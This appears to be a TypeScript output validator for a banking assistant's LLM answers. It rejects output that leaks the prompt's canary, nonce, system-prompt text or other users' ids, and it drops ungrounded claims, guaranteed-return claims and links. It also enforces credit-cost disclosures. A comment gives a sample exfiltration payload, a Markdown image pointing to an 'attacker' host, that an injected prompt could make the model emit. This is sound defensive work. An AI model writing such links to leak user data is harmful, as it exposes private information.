/**
 * Validates LLM output sentence by sentence before anyone sees it:
 *
 * - injection defense: an output holding the canary, the delimiter nonce, a
 *   piece of the system prompt, a forbidden string (another user's id) or a
 *   prompt marker is rejected whole, and so is garbage;
 * - grounding: a sentence naming a product or catalog item that is not in the
 *   context is dropped and reported;
 * - compliance: a guaranteed-return claim is dropped; a credit rate without
 *   the full cost of credit (ПСК) stated before it gets the disclosure
 *   inserted, and a ПСК with wrong figures is replaced by the right one;
 * - the AI disclosure is appended when the text lacks it.
 *
 * @module
 */

import type { CatalogItem } from "../datagen/types.ts";
import type { DecidedOffer, Language } from "../decision/types.ts";
import { productByCode } from "../model/products.ts";
import { EntityMatcher } from "./_entity_matcher.ts";
import type { ExplainContext } from "./explain_context.ts";
import type { BuiltPrompt } from "./prompt.ts";
import { splitSentences } from "./sentence_splitter.ts";
import { AI_DISCLOSURE, fullCostSentence } from "./_texts.ts";
import {
  AI_DISCLOSURE_PATTERN,
  FULL_COST,
  GUARANTEE_CLAIMS,
  HAS_PERCENT,
  normalize,
  PERCENTS,
  PROMPT_MARKERS,
  RATE_WORDS,
} from "./_patterns.ts";

/** What the output is checked against. */
export interface ValidationRules {
  language: Language;
  /** The offers the text may mention. */
  offers: readonly DecidedOffer[];
  /** The catalog items the text may mention. */
  items: readonly CatalogItem[];
  /** The prompt's canary, nonce and system text; an output echoing them is rejected. */
  canary?: string | null;
  nonce?: string | null;
  system?: string | null;
  /** Strings that must never appear (other users' ids, secrets). */
  forbidden?: readonly string[];
  /** The user's own message: quoting it is not naming an unknown item. */
  message?: string | null;
  /** Product codes the user holds: naming them is not inventing an offer. */
  holdings?: readonly string[];
  /** Every credit offer's ПСК must appear, even with no rate named (offer explanations). */
  requireFullCost?: boolean;
}

/** Product codes and catalog item ids a text mentions. */
export interface Entities {
  products: string[];
  items: string[];
}

/** Why a sentence was dropped. */
export type DropReason =
  | "unknown_item"
  | "unknown_product"
  | "guaranteed_return"
  | "rate_without_psk"
  | "markup_or_link";
/** A dropped sentence, reported to the caller. */
export interface DroppedSentence {
  sentence: string;
  reason: DropReason;
  /** The unknown id, code or name, when there is one. */
  entity: string | null;
}

/** Why a whole output was rejected. */
export type RejectReason = "canary" | "system_prompt" | "forbidden" | "prompt_marker" | "garbage" | "empty";

/** The outcome of validating a whole text. */
export type PostprocessResult =
  | { ok: true; text: string; entities: Entities; dropped: DroppedSentence[]; fixes: string[] }
  | { ok: false; reason: RejectReason };

/** The outcome of one sentence: the text to show ("" when dropped), or a rejection of the whole output. */
export type SentenceResult = { ok: true; text: string } | { ok: false; reason: RejectReason };

/**
 * HTML tags, Markdown images and links, and URLs: answers are plain text, and a link or an image an
 * injected prompt makes the model write is how data leaves (`![x](https://attacker/?d=…)`).
 */
const MARKUP_OR_LINK =
  /<\/?[a-z!][^>]*>|!?\[[^\]]*\]\([^)]*\)|\b(?:https?|ftp|javascript|data|vbscript|file):|\bwww\./i;

const isCredit = (offer: DecidedOffer) =>
  offer.disclosures.fullCostRange !== null || productByCode(offer.productId)?.credit === true;

/** Checks sentences in order, keeping the state the rules need (ПСК stated, entities seen). */
export class OutputValidator {
  readonly #rules: ValidationRules;
  readonly #matcher: EntityMatcher;
  readonly #systemFragments: string[];
  readonly #fullCostStated = new Set<string>();
  readonly #products = new Set<string>();
  readonly #items = new Set<string>();
  readonly #accepted: string[] = [];
  /** Sentences dropped so far. */
  readonly dropped: DroppedSentence[] = [];
  /** Fixes applied so far (`psk_inserted`, `psk_corrected`, `disclosure_appended`). */
  readonly fixes: string[] = [];

  constructor(rules: ValidationRules) {
    this.#rules = rules;
    this.#matcher = new EntityMatcher(rules);
    this.#systemFragments = splitSentences(rules.system ?? "")
      .map((line) => normalize(line.replace(/^\d+\.\s*/, ""))).filter((line) => line.length >= 25);
  }

  /** Product codes and item ids of the accepted sentences. */
  get entities(): Entities {
    return { products: [...this.#products], items: [...this.#items] };
  }

  /** The accepted text so far. */
  get text(): string {
    return this.#accepted.join(" ");
  }

  /** Validates one sentence. */
  check(raw: string): SentenceResult {
    const sentence = raw.trim();
    if (!sentence) return { ok: true, text: "" };
    const rejection = this.#rejection(sentence);
    if (rejection) return { ok: false, reason: rejection };
    if (MARKUP_OR_LINK.test(sentence)) return this.#drop(sentence, "markup_or_link");
    const text = normalize(sentence);
    const mentioned = this.#matcher.mentions(sentence, text);
    if (mentioned.unknown) return this.#drop(sentence, mentioned.unknown.reason, mentioned.unknown.entity);
    if (GUARANTEE_CLAIMS.some((pattern) => pattern.test(sentence))) {
      return this.#drop(sentence, "guaranteed_return");
    }
    const offers = this.#rules.offers.filter((offer) => mentioned.products.has(offer.productId));
    const shown = this.#fullCostRule(sentence, offers);
    if (shown === null) return this.#drop(sentence, "rate_without_psk");
    for (const code of mentioned.products) this.#products.add(code);
    for (const id of mentioned.items) this.#items.add(id);
    this.#accepted.push(shown);
    return { ok: true, text: shown };
  }

  /**
   * Ends the text: what to append (missing ПСК disclosures when
   * `requireFullCost`, then the AI disclosure), or `empty` when nothing was accepted.
   */
  finish(): { ok: true; tail: string } | { ok: false; reason: "empty" } {
    if (this.#accepted.length === 0) return { ok: false, reason: "empty" };
    const language = this.#rules.language;
    const tail: string[] = [];
    if (this.#rules.requireFullCost) {
      for (const offer of this.#rules.offers) {
        const range = offer.disclosures.fullCostRange;
        if (!range || this.#fullCostStated.has(offer.productId)) continue;
        this.#fullCostStated.add(offer.productId);
        tail.push(fullCostSentence(offer.name[language], range, language));
        this.fixes.push("psk_appended");
      }
    }
    if (!AI_DISCLOSURE_PATTERN.test(this.text)) {
      tail.push(AI_DISCLOSURE[language]);
      this.fixes.push("disclosure_appended");
    }
    this.#accepted.push(...tail);
    return { ok: true, tail: tail.join(" ") };
  }

  /**
   * The ПСК rule: the text to show for `sentence`, with the disclosure inserted
   * before a credit rate when it was not stated yet and corrected when its
   * figures are wrong; null when a credit rate cannot be disclosed (no ПСК known).
   */
  #fullCostRule(sentence: string, mentioned: DecidedOffer[]): string | null {
    const language = this.#rules.language;
    const disclose = (offer: DecidedOffer) => {
      this.#fullCostStated.add(offer.productId);
      this.#products.add(offer.productId);
      return fullCostSentence(offer.name[language], offer.disclosures.fullCostRange!, language);
    };
    const fullCostAt = sentence.search(FULL_COST);
    const rateAt = HAS_PERCENT.test(sentence) && RATE_WORDS.test(sentence)
      ? sentence.search(HAS_PERCENT)
      : -1;
    // A rate about no named offer is taken to be about the credit offers in context.
    const credit = (mentioned.some(isCredit) ? mentioned : this.#rules.offers).filter(isCredit);
    if (fullCostAt >= 0) {
      const figures = [...sentence.matchAll(PERCENTS)].map((m) => Number(m[1].replace(",", ".")));
      const right = credit.find((offer) => {
        const range = offer.disclosures.fullCostRange;
        return range !== null &&
          [range.min, range.max].every((v) => figures.some((f) => Math.abs(f - v) < 0.05));
      });
      const rateFirst = rateAt >= 0 && rateAt < fullCostAt && RATE_WORDS.test(sentence.slice(0, fullCostAt));
      if (right && !rateFirst) {
        this.#fullCostStated.add(right.productId);
        return sentence;
      }
      if (right) {
        // Right figures, but a rate comes first: state the ПСК before the whole sentence.
        this.fixes.push("psk_inserted");
        return `${disclose(right)} ${sentence}`;
      }
      // Wrong figures cannot be kept: the sentence becomes the right disclosure.
      const offer = credit.find((o) => o.disclosures.fullCostRange !== null);
      if (!offer) return null;
      this.fixes.push("psk_corrected");
      return disclose(offer);
    }
    if (rateAt < 0) return sentence;
    const prefix: string[] = [];
    for (const offer of credit) {
      if (this.#fullCostStated.has(offer.productId)) continue;
      if (offer.disclosures.fullCostRange === null) return null;
      prefix.push(disclose(offer));
      this.fixes.push("psk_inserted");
    }
    return [...prefix, sentence].join(" ");
  }

  #rejection(sentence: string): RejectReason | null {
    const lower = sentence.toLowerCase();
    const { canary, nonce, forbidden } = this.#rules;
    if (canary && lower.includes(canary.toLowerCase())) return "canary";
    if (nonce && lower.includes(nonce.toLowerCase())) return "prompt_marker";
    if (forbidden?.some((secret) => secret && lower.includes(secret.toLowerCase()))) return "forbidden";
    if (PROMPT_MARKERS.some((pattern) => pattern.test(sentence))) return "prompt_marker";
    const text = normalize(sentence);
    if (this.#systemFragments.some((f) => text.includes(f) || (text.length >= 25 && f.includes(text)))) {
      return "system_prompt";
    }
    const visible = sentence.replace(/\s/g, "");
    const meaningful = visible.replace(/[^\p{L}\p{N}]/gu, "").length;
    if (/\uFFFD|(?![\t\n\r])\p{Cc}/u.test(sentence) || /(\S)\1{7,}/.test(visible)) return "garbage";
    if (visible.length >= 8 && meaningful / visible.length < 0.5) return "garbage";
    return null;
  }

  #drop(sentence: string, reason: DropReason, entity: string | null = null): SentenceResult {
    this.dropped.push({ sentence, reason, entity });
    return { ok: true, text: "" };
  }
}

/** Validates a whole text (an offer explanation or a non-streamed answer). */
export function postprocess(text: string, rules: ValidationRules): PostprocessResult {
  const validator = new OutputValidator(rules);
  for (const sentence of splitSentences(text)) {
    const result = validator.check(sentence);
    if (!result.ok) return result;
  }
  const end = validator.finish();
  if (!end.ok) return end;
  return {
    ok: true,
    text: validator.text,
    entities: validator.entities,
    dropped: validator.dropped,
    fixes: validator.fixes,
  };
}

/** The rules for checking an answer to a prompt built from `context`. */
export function validationRules(context: ExplainContext, prompt: BuiltPrompt): ValidationRules {
  return {
    language: context.language,
    offers: context.offers,
    items: context.items,
    canary: prompt.canary,
    nonce: prompt.nonce,
    system: prompt.system,
    forbidden: context.forbidden,
    message: context.message,
    holdings: context.profile?.holdings,
  };
}
